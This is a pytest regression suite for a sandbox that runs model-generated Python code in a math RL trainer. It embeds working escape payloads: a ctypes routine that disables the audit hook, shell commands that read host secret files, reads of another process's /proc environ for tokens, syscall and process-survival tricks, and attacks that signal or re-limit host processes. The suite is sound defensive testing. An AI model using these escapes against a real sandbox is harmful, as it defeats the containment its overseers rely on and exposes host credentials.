"""Escapes a security review reproduced against the sandbox, each run in every mode this machine offers.

Modes (`sandbox_modes.py`): the strongest isolation here (namespaces + pids/memory cgroups + Landlock +
seccomp), without namespaces (what Docker usually leaves: Landlock + cgroups + seccomp), without cgroups
either (Landlock + seccomp), and the audit hook alone (not a sandbox: run only when opted in). A mode
this machine lacks is skipped with the reason. Each test failed before its fix (see docs/sandbox.md).
"""

import dataclasses
import importlib.util
import os
import signal
import socket
import subprocess
import sys
import types
import uuid

import pytest

from mathrl_jax.envs.sandbox import SandboxLimits, detect_isolation
from mathrl_jax.envs.sandbox import landlock as sandbox_landlock
from tests.envs.sandbox_modes import ALL_MODES, AUDIT_ONLY, AVAILABLE, CONTAINED_MODES, run_python, sandbox_processes

MODES = ALL_MODES
LIMITS = SandboxLimits(wall_time_s=10.0, cpu_time_s=5, max_output_bytes=1 << 16)


@pytest.fixture(params=MODES)
def isolation(request):
    return request.param


@pytest.fixture
def host_secret(tmp_path):
    """A host file outside every readable root, as the trainer's files are."""
    secret = f"host-secret-{uuid.uuid4().hex}"
    path = tmp_path / "host_secret.txt"
    path.write_text(secret)
    return path, secret


# --------------------------------------------------------------------------- 1. processes from native code

SHELL_THROUGH_UVLOOP = """
import asyncio
import uvloop

async def main():
    shell = await asyncio.create_subprocess_exec(
        "/bin/sh", "-c", "cat {secret_path}; echo escaped > {target}; echo shell-ran",
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
    )
    out, _ = await shell.communicate()
    print(out.decode())

uvloop.run(main())
"""


def test_native_extension_cannot_start_an_unaudited_shell(isolation, host_secret, tmp_path):
    """uvloop spawns through libuv, without an audit event: where processes are refused, it must not load."""
    pytest.importorskip("uvloop", reason="uvloop (installed with orbax-checkpoint) is not installed")
    secret_path, secret = host_secret
    target = tmp_path / "written_by_the_shell"
    code = SHELL_THROUGH_UVLOOP.format(secret_path=secret_path, target=target)
    result = run_python(code, LIMITS, isolation=isolation)
    assert secret not in result.stdout and not target.exists(), (result.status, result.stdout)
    if not isolation.processes_allowed:
        assert "shell-ran" not in result.stdout, (result.status, result.stdout)
        assert result.status == "forbidden" and any("native extension uvloop" in v for v in result.violations)


def test_the_extension_guard_cannot_be_bypassed_from_python(tmp_path):
    """The guard on `_imp.create_dynamic` holds against calling the loader directly and rewiring the guard."""
    pytest.importorskip("uvloop", reason="uvloop (installed with orbax-checkpoint) is not installed")
    import _posixsubprocess

    import uvloop.loop

    load = (
        "import _imp, importlib.machinery\n"
        "_imp.create_dynamic(importlib.machinery.ModuleSpec({name!r}, None, origin={path!r}))"
    )
    attempts = {
        "direct load": load.format(name="loop", path=uvloop.loop.__file__),
        "real _posixsubprocess": load.format(name="_posixsubprocess", path=_posixsubprocess.__file__),
        "guard's defaults": "import _imp\nprint(_imp.create_dynamic.__defaults__)",
        "fresh _imp": "import _imp, types\nprint(_imp.create_builtin(types.SimpleNamespace(name='_imp')))",
        "gc walk": "import gc\nprint(len(gc.get_objects()))",
        "rebound globals": "import _imp\n_imp.create_dynamic.__globals__['any'] = lambda it: True\n"
        + load.format(name="loop", path=uvloop.loop.__file__),
    }
    if importlib.util.find_spec("_tkinter") is not None:  # Tcl's `exec` runs a shell without an audit event
        attempts["Tcl exec"] = "import tkinter\nprint(tkinter.Tcl().eval('exec /bin/sh -c {echo shell-ran}'))"
    if importlib.util.find_spec("_sqlite3") is not None:  # ATTACH writes a file without an `open` event
        attempts["sqlite ATTACH"] = (
            f"import sqlite3\nsqlite3.connect(':memory:').execute(\"ATTACH '{tmp_path}/x.db' AS x\")"
        )
    for what, code in attempts.items():
        result = run_python(code, LIMITS, isolation=AUDIT_ONLY)
        assert result.status == "forbidden" and "shell-ran" not in result.stdout, (what, result.status, result.stderr)
    assert not (tmp_path / "x.db").exists()


@pytest.mark.skipif(not AVAILABLE.landlock_abi, reason="this kernel has no Landlock")
def test_landlock_refuses_every_exec_where_processes_are_refused():
    """The kernel's stop behind the guard: with `allow_execute=False`, no `execve` succeeds, however it is made."""
    probe = f"""
import importlib.util, os
spec = importlib.util.spec_from_file_location("landlock", {sandbox_landlock.__file__!r})
landlock = importlib.util.module_from_spec(spec)
spec.loader.exec_module(landlock)
roots = ["/usr", "/lib", "/lib64", "/bin", "/etc", {sys.prefix!r}, {sys.base_prefix!r}]
landlock.apply_landlock({AVAILABLE.landlock_abi}, os.getcwd(), roots, (), allow_execute=False)
import json  # imports (shared libraries included) still work
try:
    os.execv("/bin/true", ["/bin/true"])
except PermissionError:
    print("exec refused")
"""
    probe_run = subprocess.run([sys.executable, "-I", "-c", probe], capture_output=True, text=True, timeout=30)
    assert probe_run.stdout == "exec refused\n", probe_run.stderr[-400:]


# --------------------------------------------------------------------------- 2 and 3. reads through /proc/*/root


def test_the_trainers_environment_is_not_readable(isolation):
    """/proc/self/root/proc/<trainer pid>/environ once printed the trainer's variables (HF_TOKEN=...)."""
    fake_token = f"hf_fake_{uuid.uuid4().hex}"
    trainer = subprocess.Popen(["sleep", "30"], env={**os.environ, "HF_TOKEN": fake_token})
    try:
        pids = (trainer.pid, os.getpid())
        paths = [f"{prefix}/proc/{pid}/environ" for pid in pids for prefix in ("", "/proc/self/root")]
        paths += [
            f"/proc/thread-self/root/proc/{trainer.pid}/environ",
            f"/proc/self/root/proc/self/../{trainer.pid}/environ",
            f"/proc/self/cwd/../../../proc/{trainer.pid}/environ",
            f"/proc/{{os.getpid()}}/root/proc/{trainer.pid}/environ",
            f"/proc/{{os.getpid()}}/task/{{os.getpid()}}/root/proc/{trainer.pid}/environ",
        ]
        code = "import os\nfor path in [" + ", ".join(f'f"{p}"' for p in paths) + "]:\n"
        code += "    try:\n        print('READ', path, open(path, 'rb').read())\n"
        code += "    except OSError as e:\n        print('refused', path, type(e).__name__)\n"
        result = run_python(code, LIMITS, isolation=isolation)
    finally:
        trainer.kill()
        trainer.wait()
    assert fake_token not in result.stdout and "HF_TOKEN" not in result.stdout, result.stdout
    assert result.stdout.count("refused") == len(paths), result.stdout


def test_host_files_are_refused_by_every_spelling(isolation, host_secret):
    """`open('/proc/self/root' + path)` once read what `open(path)` is refused."""
    secret_path, secret = host_secret
    spellings = [
        str(secret_path),
        f"/proc/self/root{secret_path}",
        f"/proc/thread-self/root{secret_path}",
        f"/proc/{{os.getpid()}}/root{secret_path}",
        f"/proc/self/cwd/../../..{secret_path}",
        f"/proc/self/root/proc/self/root{secret_path}",
        # An open directory's fd link, then up from where it leads (the working directory is 3 levels deep):
        # read as text, `..` climbed out of /proc and the path looked like /proc/tmp/... (found in review).
        f"/proc/self/fd/{{os.open('.', os.O_RDONLY)}}/../../..{secret_path}",
        f"/dev/fd/{{os.open('.', os.O_RDONLY)}}/../../..{secret_path}",
    ]
    code = "import os\nfor path in [" + ", ".join(f'f"{s}"' for s in spellings) + "]:\n"
    code += "    try:\n        print('READ', open(path).read())\n"
    code += "    except OSError as e:\n        print('refused', type(e).__name__)\n"
    result = run_python(code, LIMITS, isolation=isolation)
    assert secret not in result.stdout and result.stdout.count("refused") == len(spellings), result.stdout


def test_system_files_and_the_programs_own_proc_stay_readable(isolation):
    """The resolution refuses only paths through magic links and other processes: system files, the program's
    own /proc entries, /dev/fd and /dev/stdin (links to /proc/self/fd/<n>) stay open."""
    code = """
import os
print(len(open('/etc/passwd').read()) > 0, 'Pid' in open('/proc/self/status').read())
print(os.path.exists('/dev/fd/1'), len(os.read(os.open('/dev/stdin', os.O_RDONLY), 3)))
"""
    result = run_python(code, LIMITS, stdin="abc", isolation=isolation)
    assert (result.status, result.stdout) == ("ok", "True True\nTrue 3\n"), result.stderr[-400:]
    assert result.violations == ()


# --------------------------------------------------------------------------- 4. host UNIX sockets


@pytest.fixture
def unix_servers(tmp_path):
    """Pathname AF_UNIX servers on the host: one in the test's tmp dir, one directly under /tmp."""
    servers = []
    for path in (str(tmp_path / "host.sock"), f"/tmp/mathrl_sandbox_test_{uuid.uuid4().hex[:12]}.sock"):
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(path)
        server.listen(8)
        server.settimeout(0.2)
        servers.append((path, server))
    yield [path for path, _ in servers]
    reached = []
    for path, server in servers:
        try:
            connection, _ = server.accept()
            connection.close()
            reached.append(path)
        except (socket.timeout, BlockingIOError):
            pass
        server.close()
        os.unlink(path)
    assert reached == [], f"a sandboxed program connected to the host's {reached}"


CONNECT = """
import signal
import socket
for path in {paths!r}:
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        print('connected', path)
    except OSError as e:
        print('refused', type(e).__name__)
"""


def test_host_unix_sockets_are_unreachable(isolation, unix_servers):
    """An exec'd interpreter (no audit hook) once connected to a host server's pathname socket."""
    connect = CONNECT.format(paths=unix_servers)
    fresh_interpreter = f"import os, sys\nos.execv(sys.executable, [sys.executable, '-I', '-c', {connect!r}])"
    for what, code in (("in the sandbox's interpreter", connect), ("after os.execv", fresh_interpreter)):
        result = run_python(code, LIMITS, isolation=isolation)
        assert "connected" not in result.stdout, (what, result.stdout)
        if result.status == "ok":  # the exec ran (where processes are allowed): each connect failed
            assert result.stdout.count("refused") == len(unix_servers), (what, result.stdout, result.stderr[-300:])
        else:
            assert result.status in ("network", "process_limit"), (what, result.status, result.stderr[-300:])


# --------------------------------------------------------------------------- 5. memory of the whole run

MEMORY_HOGS = """
import os, time
children = []
for i in range(6):
    pid = os.fork()
    if pid == 0:
        block = b"x" * (64 << 20)  # written, so resident: 6 x 64 MB against a 192 MB run
        print("holding", i, flush=True)
        time.sleep(1.0)
        print("released", i, flush=True)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
"""


@pytest.mark.skipif(
    not (AVAILABLE.memory_cgroup and AVAILABLE.processes_allowed),
    reason=f"needs a writable memory cgroup and child processes (namespaces + pids cgroup + Landlock), "
    f"have {AVAILABLE.name}; without them the memory limit is per process and process creation is refused",
)
def test_the_memory_limit_holds_for_all_processes_together():
    """Six forked children of 300 MB each once took 1.8 GB under a 512 MB limit (RLIMIT_AS is per process)."""
    limits = SandboxLimits(wall_time_s=10.0, memory_bytes=192 << 20, max_processes=16)
    result = run_python(MEMORY_HOGS, limits, isolation=AVAILABLE)
    assert result.status == "memory", (result.status, result.stdout, result.stderr[-300:])
    assert any(v.startswith("memory: the run's limit") for v in result.violations)
    # At most two 64 MB blocks fit at once (children still holding when the limit was hit were killed);
    # a loaded machine could spread the forks out so that some finish first, hence "not all six".
    assert result.stdout.count("released") < 6


def test_a_machine_that_cannot_build_the_private_root_runs_without_namespaces(tmp_path):
    """Where `unshare` works but the private root cannot be built (a container that refuses bind mounts or
    `pivot_root`), every namespaced run would fail closed: detection offers the other modes instead. Simulated
    by an `unshare` whose probe of the private root fails and which otherwise is the real one."""
    from mathrl_jax.envs.sandbox import isolation

    real = isolation.shutil.which("unshare")
    if real is None or not detect_isolation().namespaces:
        pytest.skip("no working unshare here: namespaces are off already")
    fake = tmp_path / "unshare_without_pivot_root"
    fake.write_text(f'#!/bin/sh\ncase "$*" in *--probe-root*) exit 1;; esac\nexec {real} "$@"\n')
    fake.chmod(0o755)
    for unprivileged_uid in (True, False):  # namespaces themselves work, with or without a user namespace
        flags = isolation.unshare_flags(unprivileged_uid)
        assert isolation._exits_zero([str(fake), *flags, "--", "/bin/sh", "-c", "exit 0"], timeout_s=10)
        assert not isolation._namespaces_work(str(fake), unprivileged_uid)
    assert not isolation.detect_isolation(unshare=str(fake)).namespaces
    assert isolation.detect_isolation(unshare=real).namespaces


def test_on_cgroup_v2_the_memory_limit_shares_the_runs_pids_cgroup(tmp_path):
    """cgroup v2 has one hierarchy: a process joining a second run cgroup for memory would leave the pids one
    (found in review). There the limit is written into the pids cgroup, which is not removed twice. A directory
    with v2's files stands in for the cgroup (this machine's cgroups are v1)."""
    from mathrl_jax.envs.sandbox import cgroup as cgroups

    run = types.SimpleNamespace(path=str(tmp_path))
    for name in ("memory.max", "memory.swap.max", "pids.max"):
        (tmp_path / name).write_text("max")
    memory = cgroups.MemoryCgroup("/unused-parent", 1 << 28, within=run)
    assert (tmp_path / "memory.max").read_text() == str(1 << 28) and (tmp_path / "memory.swap.max").read_text() == "0"
    assert not memory.owned and memory.path == str(tmp_path)
    memory.kill_all_and_remove()
    assert tmp_path.is_dir()  # its owner (the pids cgroup) removes it


# --------------------------------------------------------------------------- 6. the audit hook switched off

HOOK_OFF = """
import ctypes, sys

# Writes through a pointer to the program's own buffer: indexing a ctypes pointer fires no audit event.
_cell = ctypes.c_ssize_t(0)
_base, _words, _kept = ctypes.addressof(_cell), ctypes.pointer(_cell), []


def _read(address):
    return _words[(address - _base) // 8]


def _write(address, obj):
    _kept.append(obj)  # never freed: the hook's defaults point at it now
    _words[(address - _base) // 8] = id(obj)


class _Equal:  # `family != _af_unix` is False for every family
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False


frame = sys._getframe()
while "hook" not in frame.f_locals:
    frame = frame.f_back
hook = frame.f_locals["hook"]
code = hook.__code__
slots = [_read(id(hook) + 8 * k) for k in range(2, 16)]
defaults = slots[slots.index(id(code)) + 1]  # func_defaults follows func_code in a function object
count = _read(defaults + 16)
names = code.co_varnames[code.co_argcount - count : code.co_argcount]
off = {"_allow_proc": True, "_process_events": (), "_network_events": (), "_ctypes_events": (), "_stand_ins": (),
       "_introspection_events": (), "_root": "", "_af_unix": _Equal(), "_read_roots": ("",)}
for index, name in enumerate(names):
    if name in off:
        _write(defaults + 24 + 8 * index, off[name])
print("hook-off", flush=True)


def attempt(what, action):
    try:
        action()
        print(what, "GAINED", flush=True)
    except BaseException as e:
        print(what, "refused", type(e).__name__, flush=True)
"""
"""The review's bypass (CPython 3.11+ object layouts): the hook's refusal lists emptied, everything "inside";
then `attempt(what, action)` prints whether each attack GAINED or was refused."""

ATTACKS = """
import os, socket, stat

def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"x", ("127.0.0.1", {udp_port}))

def tcp():
    socket.create_connection(("127.0.0.1", {tcp_port}), timeout=2)

def unix():
    socket.socket(socket.AF_UNIX).connect({unix_path!r})

def shell():
    os.execv("/bin/sh", ["sh", "-c", "cat {secret_path}; echo shell > {target}"])

def fork():
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", "cat {secret_path}; echo shell > {target}"])
    os.wait()

attempt("read-host-file", lambda: print(open({secret_path!r}).read()))
attempt("read-trainer-environ", lambda: print(open("/proc/{victim}/environ", "rb").read()))
attempt("write-outside", lambda: open({target!r}, "w").write("escaped"))
attempt("device-node", lambda: os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(8, 0)))
attempt("udp", udp)
attempt("tcp", tcp)
attempt("unix", unix)
attempt("fork-shell", fork)
attempt("shell", shell)
"""


@pytest.fixture
def host_listeners(tmp_path):
    """TCP, UDP and pathname AF_UNIX listeners on the host; the test asserts none hears from the sandbox."""
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    unix_path = f"/tmp/mathrl_sandbox_test_{uuid.uuid4().hex[:12]}.sock"
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(unix_path)
    unix.listen(8)
    for server in (tcp, udp, unix):
        server.setblocking(False)
    ports = {"tcp_port": tcp.getsockname()[1], "udp_port": udp.getsockname()[1], "unix_path": unix_path}

    def heard():
        got = []
        for name, receive in (("tcp", tcp.accept), ("udp", lambda: udp.recv(16)), ("unix", unix.accept)):
            try:
                receive()
                got.append(name)
            except BlockingIOError:
                pass
        return got

    yield ports, heard
    for server in (tcp, udp, unix):
        server.close()
    os.unlink(unix_path)


@pytest.fixture
def victim():
    """A host process (the trainer, say) holding a secret in its environment; returns (process, secret)."""
    secret = f"HF_TOKEN=hf_{uuid.uuid4().hex}"
    process = subprocess.Popen(["sleep", "120"], env={"PATH": "/usr/bin:/bin", secret.split("=")[0]: secret[9:]})
    yield process, secret
    process.kill()
    process.wait()


def _attack(host_secret, tmp_path, host_listeners, victim):
    (secret_path, _), (ports, _), (process, _) = host_secret, host_listeners, victim
    target = tmp_path / "written_by_the_sandbox"
    return HOOK_OFF + ATTACKS.format(secret_path=str(secret_path), target=str(target), victim=process.pid, **ports)


@pytest.mark.parametrize("isolation", CONTAINED_MODES)
def test_switching_the_audit_hook_off_gains_nothing(isolation, host_secret, tmp_path, host_listeners, victim):
    """With the hook switched off by `ctypes` writes, the review's program ran `/bin/sh` as root, read and wrote
    host files and reached host AF_UNIX, TCP and UDP listeners (hook only), and AF_UNIX and UDP under Landlock.
    Every mode that runs model code by default must hold it in the kernel: no host file (nor another process's
    environment), no write outside, no device node, no host socket of any family, no shell outside."""
    (_, secret), (_, heard), (_, trainer_secret) = host_secret, host_listeners, victim
    result = run_python(_attack(host_secret, tmp_path, host_listeners, victim), LIMITS, isolation=isolation)
    lines = result.stdout.splitlines()
    assert lines[:1] == ["hook-off"], (result.status, result.stdout, result.stderr[-600:])
    assert secret not in result.stdout and trainer_secret.split("=")[1] not in result.stdout, result.stdout
    assert not (tmp_path / "written_by_the_sandbox").exists() and heard() == []
    gained = [line.split()[0] for line in lines if line.endswith("GAINED")]
    # A shell may run only where processes are allowed (namespaces): then it is confined, as asserted above.
    assert set(gained) <= ({"fork-shell", "shell"} if isolation.processes_allowed else set()), result.stdout
    for what in ("read-host-file", "write-outside", "device-node", "udp", "tcp", "unix"):
        assert f"{what} refused" in result.stdout, (what, result.stdout)


def test_the_bypass_is_real_where_the_kernel_does_not_contain(host_secret, tmp_path, host_listeners, victim):
    """The same program under the audit hook alone (opted in: not a sandbox) gains everything the review saw:
    it shows the test above attacks for real, and why that mode is refused by default."""
    (_, secret), (_, heard) = host_secret, host_listeners
    result = run_python(_attack(host_secret, tmp_path, host_listeners, victim), LIMITS, isolation=AUDIT_ONLY)
    assert result.stdout.startswith("hook-off") and secret in result.stdout, (result.stdout, result.stderr[-600:])
    assert (tmp_path / "written_by_the_sandbox").exists() and set(heard()) == {"tcp", "udp", "unix"}


def test_a_mode_that_cannot_contain_is_refused_unless_opted_in():
    """No namespaces and no Landlock + seccomp: `run_python` and the Python tool refuse, naming the opt-in."""
    from mathrl_jax.data import Problem
    from mathrl_jax.envs import MathEnv, PythonToolEnv, sandbox

    for isolation in (AUDIT_ONLY, dataclasses.replace(AUDIT_ONLY, landlock_abi=AVAILABLE.landlock_abi or 1)):
        with pytest.raises(RuntimeError, match="not a sandbox.*allow_not_a_sandbox=True"):
            sandbox.run_python("print('ran')", LIMITS, isolation=isolation)
    with pytest.raises(RuntimeError, match="allow_not_a_sandbox=True"):
        PythonToolEnv(MathEnv([Problem(uid="p", question="1+1", answer="2")]), isolation=AUDIT_ONLY)
    assert sandbox.run_python("print('ran')", LIMITS, isolation=AUDIT_ONLY, allow_not_a_sandbox=True).stdout == "ran\n"


HARM = """
import os, resource, signal, ctypes
pid = {pid}

libc = ctypes.CDLL(None, use_errno=True)
attempt("prlimit-cpu", lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)))
attempt("prlimit-fsize", lambda: resource.prlimit(pid, resource.RLIMIT_FSIZE, (1, 1)))
attempt("setpriority", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
attempt("sched_setaffinity", lambda: os.sched_setaffinity(pid, {{0}}))
attempt("sched_setscheduler", lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
attempt("pidfd_send_signal", lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGSTOP))
attempt("kill", lambda: os.kill(pid, signal.SIGSTOP))
attempt("killpg", lambda: os.killpg(0, signal.SIGCONT))
def raw_kill():
    if libc.syscall(62, pid, int(signal.SIGSTOP)) != 0:
        raise OSError(ctypes.get_errno(), "kill")
attempt("raw-kill", raw_kill)
"""


@pytest.mark.parametrize("isolation", CONTAINED_MODES)
def test_other_processes_cannot_be_signalled_re_limited_or_re_prioritised(isolation, victim):
    """`prlimit(pid, RLIMIT_CPU, (1, 1))` got a host process killed by the kernel; `setpriority`, `sched_set*`
    and `RLIMIT_FSIZE` changed one; `pidfd_send_signal` signalled one where `os.kill` was refused. With the
    hook off too, a host process must come out as it went in."""
    import resource

    process, _ = victim
    pid = process.pid
    before = (
        resource.prlimit(pid, resource.RLIMIT_CPU),
        resource.prlimit(pid, resource.RLIMIT_FSIZE),
        os.getpriority(os.PRIO_PROCESS, pid),
        os.sched_getaffinity(pid),
        os.sched_getscheduler(pid),
    )
    result = run_python(HOOK_OFF + HARM.format(pid=pid), LIMITS, isolation=isolation)
    assert (
        result.stdout.startswith("hook-off")
        and result.stdout.count("refused") == 9
        or (isolation.namespaces and "GAINED" not in result.stdout.replace("killpg GAINED", ""))
    ), (result.stdout, result.stderr[-600:])
    with open(f"/proc/{pid}/stat") as f:
        state = f.read().rsplit(")", 1)[1].split()[0]
    after = (
        resource.prlimit(pid, resource.RLIMIT_CPU),
        resource.prlimit(pid, resource.RLIMIT_FSIZE),
        os.getpriority(os.PRIO_PROCESS, pid),
        os.sched_getaffinity(pid),
        os.sched_getscheduler(pid),
    )
    assert (process.poll(), state, after) == (None, "S", before), result.stdout


SURVIVOR = """
import ctypes, os, signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for leave in (os.setsid, lambda: os.setpgid(0, 0), lambda: ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)):
    try:
        leave()
    except OSError:
        pass
print("sleeping", flush=True)
time.sleep(60)
"""


def test_no_process_outlives_the_time_limit(isolation):
    """A program that left its process group (`setsid`), cleared its parent-death signal and ignored SIGTERM
    was still alive after `run_python` returned `timeout` (hook only, Landlock only), reparented to pid 1.
    Every mode, the one that is not a sandbox included (with the hook switched off there too)."""
    import time

    before = sandbox_processes()
    result = run_python(HOOK_OFF + SURVIVOR, SandboxLimits(wall_time_s=3.0, cpu_time_s=5), isolation=isolation)
    assert result.status == "timeout" and "sleeping" in result.stdout, (result.status, result.stderr[-600:])
    deadline = time.monotonic() + 5.0
    while sandbox_processes() - before and time.monotonic() < deadline:
        time.sleep(0.05)
    assert sandbox_processes() - before == set()


THREADS = """
import threading, time
started = 0
for _ in range(64):
    try:
        threading.Thread(target=time.sleep, args=(2,), daemon=True).start()
        started += 1
    except RuntimeError:
        break
print(started)
"""


@pytest.mark.parametrize("isolation", CONTAINED_MODES)
def test_threads_are_capped_in_every_mode(isolation):
    """494 threads started without a pids cgroup, where the docs say creation is refused: now none there
    (seccomp refuses `clone`), and at most `max_processes` - 1 besides the program where a pids cgroup caps them."""
    limits = SandboxLimits(wall_time_s=20.0, max_processes=8)
    result = run_python(THREADS, limits, isolation=isolation)
    assert result.status == "ok", (result.status, result.stderr[-600:])
    cap = limits.max_processes - 1 if isolation.pids_cgroup else 0
    assert int(result.stdout) <= cap, (result.stdout, isolation.name)


@pytest.mark.parametrize("isolation", CONTAINED_MODES[1:])
def test_system_calls_of_another_abi_are_killed(isolation):
    """An x32 `socket` (nr | 0x40000000) is not the filter's `socket`: libseccomp kills a foreign ABI's calls."""
    code = HOOK_OFF + "ctypes.CDLL(None).syscall(0x40000000 | 41, 2, 2, 0)\nprint('x32 socket made')"
    result = run_python(code, LIMITS, isolation=isolation)
    assert "x32 socket made" not in result.stdout and result.signal == signal.SIGSYS, (result.status, result.stdout)
